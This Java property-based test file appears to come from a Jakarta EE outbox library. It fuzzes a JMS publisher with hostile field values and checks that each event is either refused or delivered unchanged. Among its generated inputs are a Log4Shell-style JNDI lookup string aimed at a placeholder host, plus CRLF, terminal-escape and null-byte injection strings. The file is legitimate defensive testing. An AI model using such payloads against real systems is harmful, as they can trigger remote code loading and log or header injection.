// SPDX-FileCopyrightText: The Outbox for Jakarta EE authors
// SPDX-License-Identifier: Apache-2.0
package ee.outbox.jms;

import static org.assertj.core.api.Assertions.assertThat;

import com.arjuna.ats.arjuna.common.ObjectStoreEnvironmentBean;
import com.arjuna.ats.internal.jta.transaction.arjunacore.TransactionSynchronizationRegistryImple;
import com.arjuna.common.internal.util.propertyservice.BeanPopulator;
import ee.outbox.InvalidEventException;
import ee.outbox.OutboxEvent;
import ee.outbox.OutboxStatus;
import ee.outbox.cdi.capture.Capture;
import ee.outbox.cdi.capture.CaptureSettings;
import ee.outbox.cdi.route.Channel;
import ee.outbox.cdi.route.OnFailure;
import ee.outbox.cdi.route.Routes;
import ee.outbox.cdi.store.Appended;
import ee.outbox.cdi.store.Passage;
import ee.outbox.cdi.store.Transactions;
import ee.outbox.cdi.store.Witness;
import io.smallrye.config.PropertiesConfigSource;
import io.smallrye.config.SmallRyeConfigBuilder;
import jakarta.jms.ConnectionFactory;
import jakarta.jms.JMSConsumer;
import jakarta.jms.JMSContext;
import jakarta.jms.Message;
import jakarta.transaction.TransactionManager;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.Callable;
import java.util.function.BiFunction;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.EdgeCasesMode;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;

/**
 * Whatever an application puts into an event: it is refused at {@code fire}, or a subscriber at a real broker gets it as it
 * was; a property's name that the broker would take for a word to itself is never sent.
 */
final class HostileValuesTest {

    private static final long PATIENCE_MILLIS = 20_000;

    private static Path directory;
    private static Broker broker;
    private static JmsPublisher publisher;
    private static JMSContext context;
    private static JMSConsumer orders;

    /** What an application sets, and how. */
    private enum Place {
        ID(OutboxEvent.Builder::id),
        TYPE(OutboxEvent.Builder::eventType),
        SOURCE(OutboxEvent.Builder::source),
        SUBJECT(OutboxEvent.Builder::subject),
        KEY(OutboxEvent.Builder::partitionKey),
        CONTENT_TYPE(OutboxEvent.Builder::dataContentType),
        SCHEMA(OutboxEvent.Builder::dataSchema),
        EXTENSION((event, text) -> event.extension("note", text)),
        EXTENSION_NAME((event, text) -> event.extension(text, "x")),
        PROPERTY((event, text) -> event.publisherOption("property.note", text)),
        PROPERTY_NAME((event, text) -> event.publisherOption("property." + text, "x")),
        CORRELATION_ID((event, text) -> event.publisherOption("correlationId", text)),
        REPLY_TO((event, text) -> event.publisherOption("replyTo", text)),
        OPTION_NAME((event, text) -> event.publisherOption(text, "x")),
        DATA(OutboxEvent.Builder::data);

        private final BiFunction<OutboxEvent.Builder, String, OutboxEvent.Builder> setter;

        Place(BiFunction<OutboxEvent.Builder, String, OutboxEvent.Builder> setter) {
            this.setter = setter;
        }
    }

    @BeforeContainer
    static void open() throws IOException {
        directory = Files.createTempDirectory(Path.of("target"), "hostile");
        broker = new Broker(directory).start();
        publisher = new JmsPublisher(
                new SmallRyeConfigBuilder()
                        .withSources(new PropertiesConfigSource(
                                Map.of("outbox.channel.orders.destination", "orders"), "test", 500))
                        .build(),
                new Factories(new ConnectionFactory[] {broker.factory()}),
                null,
                Clock.systemUTC());
        context = broker.factory().createContext();
        orders = context.createConsumer(context.createTopic("orders"));
    }

    @AfterContainer
    static void close() {
        publisher.close();
        context.close();
        broker.stop();
    }

    @Provide
    Arbitrary<String> texts() {
        Arbitrary<String> pieces = Arbitraries.of(
                "\u0000",
                "\n",
                "\r\nx",
                "\u001B[2J",
                "\u0085",
                "\u2028",
                "\u202E",
                "\uFFFE",
                "\uD83D\uDE00",
                "\u00e4",
                "'",
                "\"",
                "\\",
                "${jndi:ldap://evil/x}",
                "{0}",
                "%00",
                " ",
                "a::b",
                "a?b=c",
                "#",
                "*",
                "@",
                "x");
        Arbitrary<String> halves = Arbitraries.of((char) 0xD83D, (char) 0xDE00).map(String::valueOf);
        Arbitrary<String> longest = Arbitraries.of("x", "\u00e4", "\uD83D\uDE00", "\u0000")
                .map(piece -> piece.repeat(65_536 / piece.length()));
        return Arbitraries.oneOf(
                Arbitraries.oneOf(pieces, halves).list().ofMaxSize(4).map(list -> String.join("", list)),
                pieces.map(piece -> "x" + piece + "y"),
                halves.map(half -> "x" + half + "y"),
                Arbitraries.integers().between(0, 40).flatMap(cut -> longest.map(text -> text.substring(cut))),
                Arbitraries.strings().all().ofMaxLength(30));
    }

    /** Words of JMS, of brokers, of ours. */
    private static Arbitrary<String> words() {
        return Arbitraries.of(
                "JMSXGroupID",
                "JMSXGroupSeq",
                "JMSXDeliveryCount",
                "JMSXUserID",
                "JMSType",
                "JMSReplyTo",
                "JMSMessageID",
                "JMS_AMQP_ContentType",
                "JMS_IBM_Format",
                "JMS_",
                "jmsxgroupid",
                "_AMQ_SCHED_DELIVERY",
                "_AMQ_DUPL_ID",
                "_AMQ_GROUP_ID",
                "_AMQ_ROUTE_TO",
                "_AMQ_ORIG_ADDRESS",
                "_AMQ_LARGE_SIZE",
                "AMQ_SCHEDULED_DELAY",
                "_HQ_DUPL_ID",
                "extraBytes",
                "NATIVE_MESSAGE_ID",
                "cloudEvents_id",
                "outbox_seq",
                "NULL",
                "between",
                "timestamp",
                "id");
    }

    @Provide
    Arbitrary<OutboxEvent> events() {
        Arbitrary<OutboxEvent.Builder> plain = Arbitraries.create(
                () -> OutboxEvent.builder().eventType("com.example.Placed").data("{}"));
        Arbitrary<OutboxEvent.Builder> one = Combinators.combine(plain, Arbitraries.of(Place.class), texts())
                .as((event, place, text) -> place.setter.apply(event, text));
        Arbitrary<OutboxEvent.Builder> two = Combinators.combine(one, Arbitraries.of(Place.class), texts())
                .as((event, place, text) -> place.setter.apply(event, text));
        Arbitrary<OutboxEvent.Builder> named = Combinators.combine(
                        one, Arbitraries.of(Place.PROPERTY_NAME, Place.EXTENSION_NAME, Place.OPTION_NAME), words())
                .as((event, place, word) -> place.setter.apply(event, word));
        return Arbitraries.oneOf(one, two, named).map(OutboxEvent.Builder::build);
    }

    @Property(tries = 400, edgeCases = EdgeCasesMode.NONE)
    void event_ofHostileValues_isRefusedAtFireOrArrivesUnharmed(@ForAll("events") OutboxEvent event) throws Exception {
        OutboxEvent fired;
        try {
            fired = fire(event);
        } catch (InvalidEventException e) {
            assertThat(e.getMessage()).as("a message of one line").doesNotContainPattern("\\p{Cntrl}");
            return;
        }

        publisher.publish(fired);

        Message message = orders.receive(PATIENCE_MILLIS);
        assertThat(message).as("a message").isNotNull();
        assertThat(CloudEventMessages.read(message)).isEqualTo(fired.toCloudEvent());
        assertThat(message.getJMSType()).isEqualTo(event.getEventType());
        assertThat(message.getStringProperty("JMSXGroupID"))
                .isEqualTo(event.getPartitionKey() == null ? event.getSubject() : event.getPartitionKey());
        assertThat(message.getJMSCorrelationID())
                .isEqualTo(event.getPublisherConfig().get("correlationId"));
        for (var option : event.getPublisherConfig().entrySet()) {
            if (option.getKey().startsWith("property.")) {
                String name = option.getKey().substring("property.".length());
                assertThat(message.getStringProperty(name)).isEqualTo(option.getValue());
                assertThat(name).doesNotStartWith("JMS").doesNotContain("AMQ_", "_HQ_");
            }
        }
    }

    /** As the outbox takes it, and as the table gives it back. */
    private static OutboxEvent fire(OutboxEvent event) throws Exception {
        Caught caught = new Caught();
        Routes routes = new Routes(Map.of("orders", new Channel("jms", OnFailure.BLOCK)), Map.of("jms", publisher));
        Capture capture = new Capture(
                new CaptureSettings("/shop", 100_000, false),
                routes,
                data -> data.toString().getBytes(StandardCharsets.UTF_8),
                () -> caught,
                Narayana.HERE,
                new TransactionSynchronizationRegistryImple(),
                lanes -> {},
                new Deaf());
        Narayana.HERE.inNew(() -> {
            capture.capture(event, "orders");
            return null;
        });
        assertThat(caught.events).hasSize(1);
        OutboxEvent taken = caught.events.get(0);
        return taken.toBuilder()
                .build(
                        taken.columns(),
                        taken.getPartitionKey(),
                        new OutboxEvent.Delivery(
                                1,
                                OutboxStatus.PENDING,
                                new OutboxEvent.Times(OnBroker.NOW, OnBroker.NOW, null, null, null),
                                0,
                                null,
                                0,
                                false));
    }

    private static final class Caught implements Passage {

        private final List<OutboxEvent> events = new ArrayList<>();

        @Override
        public void take(OutboxEvent event) {
            events.add(event);
        }

        @Override
        public boolean mustAppendAtOnce() {
            return false;
        }

        @Override
        public Appended append() {
            return new Appended(Set.of(), List.of());
        }

        @Override
        public Appended complete() {
            return append();
        }
    }

    private static final class Deaf implements Witness {

        @Override
        public boolean awaits(OutboxStatus status) {
            return false;
        }

        @Override
        public void reached(OutboxEvent event) {}
    }

    private static final class Narayana implements Transactions {

        private static final Narayana HERE = new Narayana();

        private final TransactionManager manager;

        private Narayana() {
            for (String name : new String[] {null, "communicationStore", "stateStore"}) {
                BeanPopulator.getNamedInstance(ObjectStoreEnvironmentBean.class, name)
                        .setObjectStoreDir("target/narayana");
            }
            manager = com.arjuna.ats.jta.TransactionManager.transactionManager();
        }

        @Override
        public <T> T inNew(Callable<T> work) throws Exception {
            manager.begin();
            T result;
            try {
                result = work.call();
            } catch (Throwable e) {
                manager.rollback();
                throw e;
            }
            manager.commit();
            return result;
        }

        @Override
        public <T> T outside(Callable<T> work) {
            throw new UnsupportedOperationException();
        }

        @Override
        public <T> T completing(Callable<T> work) throws Exception {
            return work.call();
        }

        @Override
        public boolean canWriteWhenCompleting() {
            return true;
        }

        @Override
        public boolean tellByAutoCommit() {
            return true;
        }
    }
}
